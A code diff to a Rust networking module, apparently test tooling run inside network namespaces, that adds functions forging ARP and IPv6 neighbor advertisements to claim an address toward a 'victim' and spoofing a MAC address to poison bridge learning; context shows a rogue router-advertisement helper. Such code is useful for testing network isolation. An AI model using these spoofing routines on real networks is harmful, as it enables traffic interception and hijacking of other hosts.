@@ -126,6 +126,52 @@ pub fn claim(namespace: &Netns, address: IpAddr) -> Result<()> {
     Ok(())
 }
 
+/// Says with the sender's own MAC address that this address is here, to everybody on the bridge and
+/// to one of them.
+pub fn claim_on_a_bridge(
+    namespace: &Netns,
+    own: [u8; 6],
+    address: IpAddr,
+    victim: (IpAddr, [u8; 6]),
+) -> Result<()> {
+    let with_own = |mut frame: Vec<u8>| {
+        frame[6..12].copy_from_slice(&own);
+        frame
+    };
+    match (address, victim) {
+        (IpAddr::V4(address), (IpAddr::V4(asked), mac)) => {
+            for (operation, to) in [(2_u16, mac), (2, [0xff; 6]), (1, [0xff; 6]), (1, mac)] {
+                let mut arp = vec![0, 1, 8, 0, 6, 4];
+                arp.extend(operation.to_be_bytes());
+                arp.extend(own);
+                arp.extend(address.octets());
+                arp.extend(mac);
+                arp.extend(asked.octets());
+                send(namespace, &with_own(ethernet(to, 0x0806, &arp)))?;
+            }
+        }
+        (IpAddr::V6(address), (IpAddr::V6(asked), mac)) => {
+            let mut message = vec![136, 0, 0, 0, 0x60, 0, 0, 0];
+            message.extend(address.octets());
+            message.extend([2, 1]);
+            message.extend(own);
+            for (to, mac) in [(asked, mac), (ALL_NODES, ALL_NODES_MAC)] {
+                let frame = icmpv6(address, to, mac, message.clone());
+                send(namespace, &with_own(frame))?;
+            }
+        }
+        _ => anyhow::bail!("two families"),
+    }
+    Ok(())
+}
+
+/// A frame from the MAC address of somebody else, which bridges learn from.
+pub fn steal_mac(namespace: &Netns, mac: [u8; 6]) -> Result<()> {
+    let mut frame = ethernet([0xff; 6], 0x0806, &[0; 28]);
+    frame[6..12].copy_from_slice(&mac);
+    send(namespace, &frame)
+}
+
 /// A router that wants to be everybody's default.
 pub fn router_advertisement(namespace: &Netns) -> Result<()> {
     let mut message = vec![134, 0, 0, 0, 64, 0, 0x70, 0x80, 0, 0, 0, 0, 0, 0, 0, 0];
